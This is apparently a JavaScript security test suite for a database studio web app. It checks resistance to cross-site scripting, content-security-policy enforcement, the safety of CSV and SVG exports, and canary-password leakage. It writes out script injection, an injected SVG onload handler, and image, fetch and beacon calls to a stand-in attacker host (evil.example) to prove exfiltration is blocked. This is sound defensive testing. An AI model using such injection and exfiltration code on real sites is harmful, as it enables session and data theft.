// The studio attacked by what is in the database and the project: whatever says
// something there tries to run a script in the page. A walk through all rooms is
// watched; where a test finds nothing, it also finds the same where it has to be.

import assert from "node:assert/strict";
import { readdir, readFile, rm, writeFile } from "node:fs/promises";
import { after, before, describe, test } from "node:test";
import { network, stranger, until } from "./attacker.mjs";
import * as hostile from "./hostile.mjs";
import { patient, studio } from "./studio.mjs";

describe("what is in the database and the project", () => {
  const password = "c4nary-w0rd";
  const { dir, tags } = hostile.project();
  let s, evil, one, link, walked;
  before(async () => {
    s = await studio(`${hostile.setup}; CREATE ROLE canary LOGIN SUPERUSER PASSWORD '${password}'`, ["--write"], undefined, [network]);
    const url = Object.assign(new URL(s.database), { username: "canary", password }).href;
    [evil, one] = await Promise.all([stranger({ "/unsafe": `<script>window.all = ${JSON.stringify(Object.values(hostile.vectors)).replaceAll("<", "\\u003c")}</script>` }), s.another(["--write"], { url, cwd: dir })]);
    link = new URL(one.link);
    walked = await watch(async (page, seen) => {
      await page.goto(link.href);
      seen.saved = await hostile.walk(page, link.origin, tags, async (where) => seen.shown.push([where, await page.content()]));
      seen.stored = await page.evaluate(async () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, await indexedDB.databases(), await caches.keys()]));
    });
  });
  after(async () => {
    await s?.stop();
    await evil?.stop();
    await rm(dir, { recursive: true });
  });

  /** A page of which all is kept that runs, is refused by a policy, is asked for and is answered. */
  const watch = async (run) => {
    const seen = { hits: [], refused: [], errors: [], asked: new Set(), bodies: [], shown: [] };
    const context = await patient(s.browser);
    try {
      await context.exposeBinding("hit", (_, what) => void seen.hits.push(what));
      await context.exposeBinding("refused", (_, what) => void seen.refused.push(what));
      await context.addInitScript(() => document.addEventListener("securitypolicyviolation", (e) => window.refused(e.effectiveDirective)));
      context.on("request", (r) => /^(blob|data):/.test(r.url()) || seen.asked.add(new URL(r.url()).origin));
      const reading = [];
      context.on("response", (r) => reading.push(r.text().then((text) => seen.bodies.push([r.url(), text]), () => {}))); // a page that is left has no body
      const page = await context.newPage();
      page.on("pageerror", (e) => seen.errors.push(String(e)));
      page.on("dialog", (d) => (seen.hits.push(d.message()), d.dismiss()));
      await run(page, seen);
      await Promise.all(reading);
    } finally {
      await context.close();
    }
    return seen;
  };

  test("is text wherever it is shown", async () => {
    assert.deepEqual([walked.hits, walked.refused, walked.errors], [[], [], []]);
    for (const [where, shown] of walked.shown) assert.match(shown, /(onerror=|onload=|:)hit\(|script&gt;/, `${where} shows something hostile`);
    const elsewhere = await watch(async (page, seen) => {
      await page.goto(`http://127.0.0.1:${evil.port}/unsafe`);
      await page.evaluate(() => {
        document.write(`<a id="a">x</a>${window.all.join(" ").replace("</title></script>", "")}`);
        document.close();
        document.getElementById("a").href = window.all.at(-1);
      });
      await page.locator("#a").click();
      await until(() => seen.hits.length >= 5);
    });
    assert.deepEqual(elsewhere.hits.sort(), Object.keys(hostile.vectors).sort());
  });

  test("would not run if it were markup, and could tell nobody", async () => {
    const escaping = async (page) => {
      await page.evaluate((all) => {
        document.body.insertAdjacentHTML("beforeend", `<div style="color:red"></div>${all.join(" ")}`);
        document.body.append(Object.assign(document.createElement("script"), { textContent: "hit('inline')" }));
        document.body.append(Object.assign(document.createElement("button"), { textContent: "go" }));
        document.querySelector("body > button").setAttribute("onclick", "hit('handler')");
        document.querySelector("body > button").click();
        setTimeout("hit('eval')");
        const a = Object.assign(document.createElement("a"), { href: all.at(-1) });
        document.body.append(a);
        a.click();
      }, Object.values(hostile.vectors));
      return page.evaluate(async (to) => {
        const image = new Promise((done) => Object.assign(new Image(), { src: `${to}/image`, onload: done, onerror: done }));
        await Promise.all([image, fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => {})]);
        navigator.sendBeacon(`${to}/beacon`, "x");
      }, `http://evil.example:${evil.port}`);
    };
    const policies = ["script-src-attr", "script-src-elem", "style-src-attr", "script-src", "img-src", "connect-src"];
    const told = () => evil.seen.map((r) => r.path).filter((path) => /^.(image|fetch|beacon)$/.test(path)).sort();
    const within = await watch(async (page, seen) => {
      await page.goto(link.href);
      await page.getByRole("searchbox", { name: "Filter tables" }).waitFor();
      await escaping(page);
      await until(() => policies.every((what) => seen.refused.includes(what)));
    });
    assert.deepEqual([within.hits, told()], [[], []]);
    for (const what of policies) assert.ok(within.refused.includes(what), `${what} in ${within.refused}`);
    const outside = await watch(async (page, seen) => {
      await page.goto(`http://127.0.0.1:${evil.port}/`);
      await escaping(page);
      await until(() => told().length === 3 && seen.hits.includes("eval"));
    });
    for (const what of ["img", "frame", "link", "inline", "handler", "eval"]) assert.ok(outside.hits.includes(what), `${what} in ${outside.hits}`);
    assert.deepEqual(told(), ["/beacon", "/fetch", "/image"]);
  });

  test("is asked of the studio alone, in every room", () => {
    assert.deepEqual([...walked.asked], [link.origin]);
  });

  test("stays text in files that are saved", async () => {
    const [csv, svg] = walked.saved;
    assert.match(csv.name, /^[^/\\<>":]+\.csv$/);
    assert.ok(csv.text.includes(`"${hostile.formula.replaceAll('"', '""')}"`), "a formula is exported as it is: docs/studio.md");
    const opened = async (text) => {
      await writeFile(`${s.folder}/saved.svg`, text);
      const { hits } = await watch(async (page) => {
        await page.goto(`file://${s.folder}/saved.svg`);
        assert.equal(await page.evaluate(() => document.documentElement.tagName), "svg");
      });
      return hits;
    };
    assert.ok(svg.text.includes("&lt;iframe"));
    assert.deepEqual(await opened(svg.text), []);
    assert.deepEqual(await opened(svg.text.replace("<svg ", "<svg onload=\"hit('svg')\" ")), ["svg"]);
  });

  test("has no password that reaches the page, even when it is wrong or the server is gone", async () => {
    const kept = async () => (await Promise.all((await readdir(s.folder, { recursive: true, withFileTypes: true })).filter((f) => f.isFile()).map((f) => readFile(`${f.parentPath ?? f.path}/${f.name}`, "utf8")))).join();
    const everything = async ({ bodies, shown, stored = "", saved = [] }) =>
      [...bodies.flat(), ...shown.flat(), stored, await kept(), one.said(), ...saved.map((f) => f.text)].join("\n");
    const first = await everything(walked);
    for (const part of ["HYPERLINK(", "SELECT * FROM", "DO $$ BEGIN RAISE", "/open?token="]) assert.ok(first.includes(part), `${part} is looked at`);
    assert.ok(!first.includes(password));
    const failing = await watch(async (page, seen) => {
      await page.goto(link.href);
      await page.getByRole("searchbox", { name: "Filter tables" }).waitFor();
      const run = (sql, write = false) =>
        page.evaluate(async (body) => {
          const answer = await fetch("/api/sql/run", { method: "POST", headers: { "Content-Type": "application/json", "X-Skein-Studio": "1" }, body: JSON.stringify({ id: "p", ...body }) });
          return (await answer.text()).split("\n").filter((line) => !line.includes('"type":"statement"')).join("\n"); // which is what was asked
        }, { sql, write });
      seen.shown.push(await run(`select * from "${password}"`));
      seen.shown.push(await run(`create subscription s connection 'postgres://canary:${password}@[x' publication p`, true));
      assert.match(seen.shown[0], /xxxxx.* does not exist/);
      assert.match(seen.shown[1], /canary:xxxxx@/);
      await s.sql("alter role canary password 'another'; select pg_terminate_backend(pid) from pg_stat_activity where usename = 'canary'");
      seen.bodies.length = 0; // what was asked is in them
      await page.goto(`${link.origin}/data/${encodeURIComponent(hostile.schema)}/__proto__`);
      await page.getByText(/password authentication failed/).first().waitFor();
      seen.shown.push(await page.content());
      await s.endDatabase();
      await page.goto(`${link.origin}/schema`);
      await page.getByRole("alert").first().waitFor();
      seen.shown.push(await page.content());
    });
    assert.ok(!(await everything(failing)).includes(password));
  });
});
